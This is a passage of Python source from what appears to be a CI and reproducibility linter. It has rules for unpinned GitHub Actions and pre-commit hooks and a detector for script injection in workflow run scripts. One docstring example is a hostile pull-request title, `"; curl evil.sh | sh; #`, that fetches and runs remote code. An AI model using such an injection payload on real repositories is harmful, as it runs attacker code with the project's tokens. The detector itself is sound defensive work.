    if job not in config.jobs:
        return True
    if any(use.job == job and "/.github/workflows/" in use.uses for use in config.uses):
        return True  # a reusable workflow: what it does is not in this file
    activities = job_activities(config, job, tool_files, judged_by_name(config))
    return judges_runner(config, job, tool_files) or "image" in activities


def makes_no_result(action: str) -> bool:
    """Actions whose only effect is outside what the job builds, tests, trains or publishes: notifications,
    tickets, labels and comments (`slackapi/slack-github-action`, `atlassian/gajira-login`), run housekeeping
    (`styfle/cancel-workflow-action`), pull requests opened for review (`peter-evans/create-pull-request`),
    release-tag readers and tools the runner already has (`microsoft/setup-msbuild`). Credential set-up is not one
    of them: a moved tag would receive the credentials."""
    name = action.lower()
    return (
        name in ci_jobs.NO_RESULT_ACTIONS
        or name in ci_jobs.RUN_HOUSEKEEPING_ACTIONS
        or name in ci_jobs.PULL_REQUEST_ACTIONS
        or name in ci_jobs.CHORE_ACTIONS
        or name.startswith(ci_jobs.CHORE_ACTION_PREFIXES)
    )


def tracks_named_head(config: CiConfig, job: str | None) -> bool:
    """Whether a job tests against a library's development head on purpose: the workflow's or the job's name
    names the library and its head (`name: tests on transformers main`) and a step of the job installs that
    library from its git head (`pip install git+https://github.com/huggingface/transformers.git`)."""
    if job is None:
        return False
    title = f"{config.name} {job} {config.titles.get(job, '')}"
    if not ci_jobs.HEAD_NAME.search(title):
        return False
    named = squash(title)
    for step in config.run_steps:
        lines = [line for line in step.script.split("\n") if not line.lstrip().startswith("#")]
        if step.job == job and any(latest_install(line, named) for line in lines):
            return True
    return False


def surfaces_results(action: str) -> bool:
    """Test-report and coverage-report actions (`pmeier/pytest-results-action`, `dorny/test-reporter`,
    `codecov/codecov-action`) run after the tests and only show or upload what they wrote."""
    return action.lower() in ci_jobs.RESULT_SURFACING_ACTIONS


def judges_runner(config: CiConfig, job: str | None, tool_files: frozenset[str]) -> bool:
    """Whether the runner's OS enters the project's results: the job installs the project's environment, tests,
    trains or builds it on the runner, or sets up a toolchain for something other than linting or reporting. Jobs
    that only lint, build the docs, fetch results and render them (CML reports), build container images (made
    from their Dockerfile, whatever the runner's OS) or do housekeeping are not judged. Runners outside jobs are."""
    if job not in config.jobs:
        return True
    activities = job_activities(config, job, tool_files, judged_by_name(config))
    if only_checks(activities):
        return False  # lint, docs, link checks, reports: what the job installs serves them, not a result
    if activities & ci_jobs.WORKING_ACTIVITIES:
        return True
    return "setup" in activities and not activities & ci_jobs.AUXILIARY_ACTIVITIES


def action_problem(uses: str, own_owners: frozenset[str]) -> str | None:
    """What is mutable about an action reference; None for local, first-party and pinned ones. Actions of the
    project's own GitHub owner (`ultralytics/actions@main` in an ultralytics repository) are first-party."""
    if uses.startswith(("./", "../")) or uses.split("/", 1)[0].lower() in own_owners:
        return None
    if uses.startswith("docker://"):
        if "@sha256:" in uses:
            return None
        return f"{uses} is not pinned by digest: use {uses.split('@')[0]}@sha256:<digest>"
    action, _, ref = uses.rpartition("@") if "@" in uses else (uses, "", "")
    if COMMIT.match(ref) or (ref and is_github_owned(action) and not is_branch_like(ref)):
        return None
    if not ref:
        return f"{action} has no ref: pin it as {action}@<40-hex sha>"
    return f"{action}@{ref} is not pinned to a commit: pin it as {action}@<40-hex sha>  # {ref}"


def is_github_owned(action: str) -> bool:
    """`actions/checkout`, `github/codeql-action/init`: published by GitHub, which the workflow trusts anyway."""
    return action.split("/", 1)[0].lower() in ci_jobs.GITHUB_OWNED_ACTIONS


# -- CI004 --------------------------------------------------------------------------------------------------------
def is_branch_like(rev: str) -> bool:
    """A rev without digits (main, master, stable, HEAD, develop) names a branch; tags and commits have digits."""
    rev = rev.strip()
    if HEX.match(rev):
        return False
    return not any(ch.isdigit() for ch in rev)


class PreCommitNotPinned(Rule):
    """
    ## What it does
    Reports hooks in `.pre-commit-config.yaml` whose `rev:` is a branch name (`main`, `master`, `stable`, `HEAD`)
    instead of a tag (`v0.6.9`, `24.8.0`) or a commit, once per file (`pre-commit autoupdate --freeze` pins them
    all; the other hooks are related locations). `repo: local` and `repo: meta` hooks have no rev and are
    fine. Also reports a missing root `.pre-commit-config.yaml` where the project expects one: its CI (a
    `pre-commit run` step or the pre-commit action), root Makefile or tox/nox configuration runs pre-commit, or
    its CONTRIBUTING or README tells to (`pre-commit install`), so that step or instruction fails without it. A
    configuration in a sub-folder (a course module's own) is not the root's; a step that runs pre-commit in such
    a folder uses that one, and so does a step whose `working-directory` is a folder the run makes (the project a
    template's CI generates, a clone: a path, or a `${{ env.X }}` read with the `env:` values in force, that names
    no folder of the repository, or an expression left unknown).

    ## Why it matters
    pre-commit runs the same checks on every machine before a commit lands, including reprocheck. A branch rev
    makes each machine run whatever the branch holds on the day the hook was installed, so "passes locally"
    means different things to different people; a missing configuration makes `pre-commit run` fail.

    ## Example
    ```yaml
    repos:
      - repo: https://github.com/psf/black
        rev: stable
    ```

    ## Fix
    Add `.pre-commit-config.yaml` with the hooks the project uses, pinned: `pre-commit autoupdate --freeze`
    writes commit SHAs with the tag as a comment.
    """

    code = "CI004"
    name = "pre-commit-not-pinned"
    severity = Severity.WARNING
    summary = "A pre-commit hook rev that is a branch, or no .pre-commit-config.yaml where the project runs pre-commit"

    def check(self, project, precommit_config, ci_configs, shell_commands, pyproject):
        if precommit_config is None:
            if is_python_project(project) and not project.exists(".pre-commit-config.yaml"):
                places = pre_commit_expected(project, ci_configs, shell_commands, pyproject)
                if places:
                    (what, first), *others = places
                    yield self.finding(
                        f"{what} pre-commit but there is no .pre-commit-config.yaml: add one at the root with the "
                        "project's hooks (reprocheck, formatters) pinned to tags or commits",
                        first.path,
                        first.line,
                        related=[place for _, place in others],
                    )
            return
        branches = [
            repo
            for repo in precommit_config.repos
            if repo.repo not in ("local", "meta") and repo.rev is not None and is_branch_like(repo.rev)
        ]
        if len(branches) == 1:
            repo = branches[0]
            yield self.finding(
                f"pre-commit hook repo {repo.repo} uses rev: {repo.rev}, a branch: pin a tag or commit "
                "(pre-commit autoupdate --freeze)",
                precommit_config.path,
                repo.rev_line,
            )
        elif branches:  # one `pre-commit autoupdate --freeze` pins them all: one finding
            named = ", ".join(f"{repo.repo.rstrip('/').rsplit('/', 1)[-1]} ({repo.rev})" for repo in branches[:4])
            more = f" and {len(branches) - 4} more" if len(branches) > 4 else ""
            yield self.finding(
                f"{len(branches)} pre-commit hook repos use a branch as rev: {named}{more}: pin tags or commits "
                "(pre-commit autoupdate --freeze)",
                precommit_config.path,
                branches[0].rev_line,
                related=[Location(precommit_config.path, repo.rev_line) for repo in branches[1:]],
            )


def pre_commit_expected(project, ci_configs, shell_commands, pyproject) -> list[tuple[str, Location]]:
    """Where the project runs or tells contributors to run pre-commit with the root's configuration, as (who
    does it, location), CI first: its steps and actions, the root Makefile, tox/nox, then CONTRIBUTING and
    README."""
    places: list[tuple[str, Location]] = []
    for config in pipelines(ci_configs):
        for step in config.run_steps:
            folder = step_folder(project, step)
            if folder is None:
                continue  # a folder the run makes (a generated project, a clone): its configuration is its own
            if step.is_shell and not (folder and project.exists(f"{folder}/.pre-commit-config.yaml")):
                for command in split_commands(step.script, step.line, step.env):
                    if reads_pre_commit_config(command):
                        places.append(("CI runs", Location(config.path, command.line)))
        for use in config.uses:
            if use.action in PRE_COMMIT_ACTIONS:
                places.append(("CI runs", Location(config.path, use.line)))
    for sourced in shell_commands:
        if sourced.origin == "makefile" and "/" not in sourced.path and reads_pre_commit_config(sourced.command):
            places.append((f"the {sourced.path} runs", Location(sourced.path, sourced.line)))
    tool = pyproject.get("tool") if isinstance(pyproject, dict) else None
    tox_table = tool.get("tox") if isinstance(tool, dict) else None
    if tox_table and "pre-commit" in str(tox_table):
        places.append(("tox runs", Location("pyproject.toml", 1)))
    for rel, what in [(f, f"{f} runs") for f in ci_jobs.PRE_COMMIT_TASK_FILES] + [
        (f, f"{f} tells contributors to use") for f in ci_jobs.PRE_COMMIT_DOC_FILES
    ]:
        line = mention_line(project, rel)
        if line:
            places.append((what, Location(rel, line)))
    return places


ENV_EXPRESSION = lazy_pattern(r"\$\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")


def step_folder(project, step) -> str | None:
    """The repository folder a CI step runs in ("" for the root), its `working-directory` read with the `env:` values
    in force (`${{ env.PROJECT_DIR }}`); None when that is not a folder of the repository: one the run itself makes
    (a project generated from a template, a clone) or an expression left unknown."""
    if step.workdir is None:
        return step.folder
    written = ENV_EXPRESSION.sub(lambda m: step.env.get(m.group(1), m.group(0)), step.workdir.strip())
    if "$" in written:
        return None
    folder = posixpath.normpath(written.removeprefix("./"))
    if folder in (".", ""):
        return ""
    return folder if folder in project.folders else None


def reads_pre_commit_config(command: Command) -> bool:
    """`pre-commit run`, `uv run pre-commit install`, `python -m pre_commit run` without `-c`/`--config`."""
    argv = unwrap_runner(strip_wrappers(command.argv))
    if not argv:
        return False
    program = posixpath.basename(argv[0])
    if program in ("pre-commit", "prek"):
        args = argv[1:]
    elif is_python_module(argv, "pre_commit"):
        args = argv[3:]
    else:
        return False
    if any(a in ("-c", "--config") or a.startswith("--config=") for a in args):
        return False
    words = [a for a in args if not a.startswith("-")]
    return bool(words) and words[0] in ci_jobs.PRE_COMMIT_CONFIG_COMMANDS


# `pre-commit run`, `pre-commit install` as written in docs or a task runner (`session.run("pre-commit", "run")`).
PRE_COMMIT_MENTION = lazy_pattern(
    r"(?<![\w.-])pre[-_]commit(?:[\"']?\s*,\s*[\"']|\s+)(?:-\S+\s+)*("
    + "|".join(sorted(ci_jobs.PRE_COMMIT_CONFIG_COMMANDS, key=len, reverse=True))
    + r")\b(?!-)"
)


def mention_line(project, rel: str) -> int | None:
    """The first line of a root file that tells to run pre-commit (`pre-commit install`); a topic ("pre-commit
    hooks") or another config file (`.pre-commit-config.yaml` of a module) is no instruction."""
    if not project.exists(rel):
        return None
    text = project.try_read_text(rel) or ""
    match = PRE_COMMIT_MENTION.search(text)
    return text.count("\n", 0, match.start()) + 1 if match else None


# -- SEC002 -------------------------------------------------------------------------------------------------------
UNTRUSTED = lazy_pattern(
    r"\b(github\.event\.[A-Za-z0-9_.\-\[\]'\"*]+|github\.head_ref|(?:github\.event\.)?inputs\.[A-Za-z0-9_\-]+)"
)
SAFE_EVENT_FIELDS = lazy_pattern(
    r"\.(number|id|sha|node_id|before|after|created_at|updated_at|merged|draft|size|run_id|run_number|forced|"
    r"additions|deletions|changed_files|commits|comments)$"
)
SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
# What the person who creates a release types (only people with write access can): its tag, title and target branch.
# Its `body` is not among them: generated release notes quote pull-request titles, which anyone writes.
MAINTAINER_RELEASE_FIELDS = lazy_pattern(r"^github\.event\.release\.(tag_name|name|target_commitish)$")
BOOLEAN_EXPRESSION = lazy_pattern(r"(==|!=|<=|>=|^\s*!|^\s*(contains|startsWith|endsWith)\()")


def untrusted_references(expression: str, inputs: dict[str, str], dispatch_only: bool = False) -> list[str]:
    """The untrusted references of one `${{ }}` expression. `dispatch_only`: the workflow's inputs can only come
    from `workflow_dispatch` (no `workflow_call`), which only people with write access can run."""
    if BOOLEAN_EXPRESSION.search(expression):
        return []
    out = []
    for match in UNTRUSTED.finditer(expression):
        reference = match.group(1).rstrip(".")
        if reference.startswith("github.event.inputs.") or (reference.startswith("inputs.") and dispatch_only):
            continue  # set by whoever dispatches the workflow by hand: a person who can push code anyway
        if MAINTAINER_RELEASE_FIELDS.match(reference):
            continue  # typed by whoever creates the release: a person with write access
        if reference.startswith("inputs."):
            name = reference.rsplit(".", 1)[1]
            if inputs.get(name, "string") in SAFE_INPUT_TYPES:
                continue
        elif SAFE_EVENT_FIELDS.search(reference):
            continue
        out.append(reference)
    return out


class WorkflowScriptInjection(Rule):
    """
    ## What it does
    Reports an untrusted `${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expression
    written inside a workflow or composite-action `run:` script, once per step (listing its expressions; the
    step's other lines are related locations: one `env:` block fixes them).
    Numeric and SHA fields (`github.event.pull_request.number`, `….head.sha`), boolean/number/choice inputs,
    comparisons (`${{ github.event.action == 'opened' }}`) and the inputs of a workflow that only
    `workflow_dispatch` can set (`github.event.inputs.*`, and `inputs.*` of a workflow without `workflow_call`:
    only people with write access, who can change the workflow anyway, run it by hand) are not reported. The
    inputs of a reusable workflow (`workflow_call`) and of a composite action are: their caller may pass
    untrusted text. Nor are the fields of a release that whoever creates it types (`github.event.release.tag_name`,
    `.name`, `.target_commitish`): only people with write access create releases. A release's `body` is reported:
    generated release notes quote pull-request titles, which anyone writes.

    ## Why it matters
    GitHub pastes the expression's value into the script before the shell runs it. A pull-request title such as
    `"; curl evil.sh | sh; #` then runs as code in your CI, with your repository token and caches: builds stop
    being trustworthy, and so does every artifact they produce.

    ## Example
    ```yaml
    - run: echo "Building ${{ github.event.pull_request.title }}"
    ```

    ## Fix
    Pass the value through the environment and quote it:
    ```yaml
    - run: echo "Building $TITLE"
      env:
        TITLE: ${{ github.event.pull_request.title }}
    ```
    """

    code = "SEC002"
    name = "workflow-script-injection"
    severity = Severity.WARNING
    summary = "An untrusted ${{ github.event.* }} / ${{ inputs.* }} expression inside a workflow run: script"

    def check(self, ci_configs):
        for config in ci_configs:
            if config.kind not in ("github", "action"):
                continue
            source_lines = config.yaml.text.splitlines() if config.yaml is not None else []
            dispatch_only = config.kind == "github" and "workflow_call" not in config.events
            for step in config.run_steps:
                by_line: dict[int, list[tuple[str, str]]] = {}  # line -> (expression as written, reference)
                for match in EXPRESSION.finditer(step.script):
                    for reference in untrusted_references(match.group(1), config.inputs, dispatch_only):
                        line = step.line if step.folded else step.line + step.script.count("\n", 0, match.start())
                        by_line.setdefault(line, []).append((match.group(0), reference))
                if not by_line:
                    continue
                lines = sorted(by_line)  # one step, one env: block: one finding, the other lines related
                found = [item for line in lines for item in by_line[line]]
                yield self.finding(
                    injection_message(found),
                    config.path,
                    lines[0],
                    column_of(source_lines, lines[0], by_line[lines[0]][0][0]),
                    related=[Location(config.path, line) for line in lines[1:]],
                )


def injection_message(found: list[tuple[str, str]]) -> str:
    """One message for the untrusted expressions of one step (they are moved to its env: together)."""
    found = list(dict.fromkeys(found))
    written = ", ".join(expression for expression, _ in found)
    passed = ", ".join(f"{env_name(reference)}: ${{{{ {reference} }}}}" for _, reference in found)
    used = ", ".join(f'"${env_name(reference)}"' for _, reference in found)
    if len(found) == 1:
        return (
            f"{written} is expanded into a run: script (script injection): pass it through env: ({passed}) "
            f"and use {used}"
        )
    return (
        f"{written} are expanded into a run: script (script injection): pass them through env: ({passed}) "
        f"and use {used}"
    )


def column_of(lines: list[str], line: int, needle: str) -> int | None:
    if 0 < line <= len(lines):
        index = lines[line - 1].find(needle)
        return index + 1 if index >= 0 else None
    return None


def env_name(reference: str) -> str:
    last = re.split(r"[.\[\]'\"]+", reference.strip(".[]'\""))[-1] or "VALUE"
    return re.sub(r"[^A-Za-z0-9]+", "_", last).upper()
